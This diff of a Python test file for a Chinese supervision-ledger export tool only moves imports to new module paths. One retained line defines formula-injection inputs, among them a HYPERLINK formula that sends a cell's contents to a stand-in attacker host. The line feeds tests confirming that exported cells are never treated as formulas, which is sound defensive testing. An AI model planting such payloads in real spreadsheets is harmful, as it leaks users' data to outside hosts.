@@ -1,4 +1,4 @@
-"""The 督办台账 (kg.ledger, kg export --format xlsx, kg ledger) on the bundled corpus, read back with
+"""The 督办台账 (kg.export.ledger, kg export --format xlsx, kg ledger) on the bundled corpus, read back with
 openpyxl and printed with LibreOffice; and formula injection (issue 19 item 17) in xlsx and CSV.
 
 Expected values are read from corpus/000 by eye: task 1 （牵头单位：区委编办、区委区政府督察和绩效办，
@@ -26,7 +26,7 @@ def built(corpus_build):
 def book(built, tmp_path_factory):
     from openpyxl import load_workbook
 
-    from kg.export import export
+    from kg.export.formats import export
 
     p = export(built, "xlsx", tmp_path_factory.mktemp("x") / "ledger.xlsx", on="2025-01-01")
     return p, load_workbook(p)
@@ -82,8 +82,8 @@ def test_print_setup(book):
 
 
 def test_unit_sheet_is_the_csv_in_chinese(built, book):
-    from kg.export import render
-    from kg.store import Store
+    from kg.export.formats import render
+    from kg.query.store import Store
 
     _, wb = book
     ws = wb["责任分工表"]
@@ -98,7 +98,7 @@ def test_unit_sheet_is_the_csv_in_chinese(built, book):
 def test_statuses():
     import datetime as dt
 
-    from kg.ledger import status
+    from kg.export.ledger import status
 
     on = dt.date(2023, 1, 1)
     assert status("2022-12-31", on, 0) == ("red", "overdue")
@@ -110,8 +110,8 @@ def test_statuses():
 
 
 def test_a_report_counts_once_its_year_is_over(built):
-    from kg.ledger import ledger
-    from kg.store import Store
+    from kg.export.ledger import ledger
+    from kg.query.store import Store
 
     st = Store.open(built)
     during = next(s for s in ledger(st, on="2021-12-31") if s.document.startswith("000"))
@@ -181,7 +181,7 @@ EVIL = ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', "@SUM(1+1)", "+1+1"
 
 @pytest.fixture(scope="module")
 def evil_out(tmp_path_factory):
-    from kg.graph import write_outputs
+    from kg.rdf.graph import write_outputs
     from test_graph import hand_corpus
 
     c = hand_corpus()
@@ -198,7 +198,7 @@ def evil_out(tmp_path_factory):
 def test_xlsx_text_is_never_a_formula(evil_out, tmp_path):
     from openpyxl import load_workbook
 
-    from kg.export import export
+    from kg.export.formats import export
 
     p = export(evil_out, "xlsx", tmp_path / "t.xlsx", on="2023-01-01")
     wb = load_workbook(p)
@@ -209,7 +209,7 @@ def test_xlsx_text_is_never_a_formula(evil_out, tmp_path):
 
 
 def test_csv_cells_that_start_a_formula_are_quoted(evil_out, tmp_path):
-    from kg.export import export
+    from kg.export.formats import export
 
     rows = list(csv.DictReader(open(export(evil_out, "csv", tmp_path / "t.csv"), encoding="utf-8-sig")))
     d1 = [r for r in rows if r["document"] == "d1.txt" and r["task_number"] == "1"]
